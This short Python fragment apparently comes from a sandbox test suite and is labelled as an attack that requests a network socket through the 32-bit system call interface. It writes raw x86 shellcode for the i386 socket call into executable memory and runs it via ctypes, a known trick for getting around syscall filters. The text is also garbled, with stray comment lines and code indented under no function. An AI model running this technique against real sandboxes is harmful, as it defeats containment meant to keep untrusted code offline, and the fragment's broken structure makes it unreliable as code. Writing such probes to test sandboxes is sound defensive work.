# attack: asks for a socket by the 32-bit system call table
# status = "crashed"
import ctypes
import mmap
import platform

#: torch, tried, class
        code = bytes.fromhex("b867010000bb02000000b901000000ba00000000cd80c3")
        try:
            area = mmap.mmap(-1, 4096, prot=7)
            area.write(code)
            if platform.machine() == "x86_64":
                entry = ctypes.addressof(ctypes.c_char.from_buffer(area))
                if ctypes.CFUNCTYPE(ctypes.c_int)(entry)() >= 0:
                    raise ValueError("a socket")
        except OSError:
            pass
#: value, nothing
